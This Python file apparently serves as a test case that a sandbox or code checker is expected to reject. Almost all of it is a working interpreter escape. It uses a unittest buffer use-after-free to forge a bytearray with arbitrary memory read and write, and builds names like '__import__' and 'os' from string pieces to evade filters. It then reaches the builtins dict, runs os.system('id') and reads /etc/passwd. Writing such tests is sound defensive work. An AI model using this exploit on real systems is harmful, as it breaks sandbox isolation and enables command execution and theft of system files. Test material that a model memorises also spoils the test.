# expect: reject memory
# line: 40
# why: "buf" "fer" is one literal, the word buffer: as a setattr name it turns a unittest result's buffer on
import contextlib
import io
import sys
import unittest

real = sys.stdout


class F:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def write(self, s):
        calls.append(s)
        if len(calls) > 1:
            got.append(self)
        return len(s)

    def flush(self):
        pass


got = []
calls = []


class T(unittest.TestCase):
    def test_a(self):
        pass


t = T("test_a")


def make():
    with contextlib.redirect_stdout(F()):
        res = unittest.TestResult()
    setattr(res, "buf" "fer", True)
    return res


hold = [make()]
hold[0].startTest(t)
hold[0].stopTest(t)


class Obj:
    def __str__(self):
        hold[0].startTest(t)
        hold.clear()
        return "x"


print(Obj(), "y")
z = got[-1]


def w8(v):
    return v.to_bytes(8, "little")


hdr = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
payload = bytes(16) + hdr + bytes(79 - 16 - len(hdr))
keep = []
for i in range(2000):
    keep.append(bytearray(payload))
    if type(z) is bytearray:
        break
mem = z
print(type(mem).__name__, "after", len(keep), file=real)


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


target = rd(rd(id(len) + 24) + 16)     # len.__self__ is the builtins module: its md_dict
mem[target:target + 8] = w8(rd(target) + 1)
cell = [None]
slot = rd(id(cell) + 24)              # list ob_item
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table), file=real)
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
real.flush()
osm.system("id")
print(table["op" + "en"]("/etc/passwd").read()[:120], file=real)
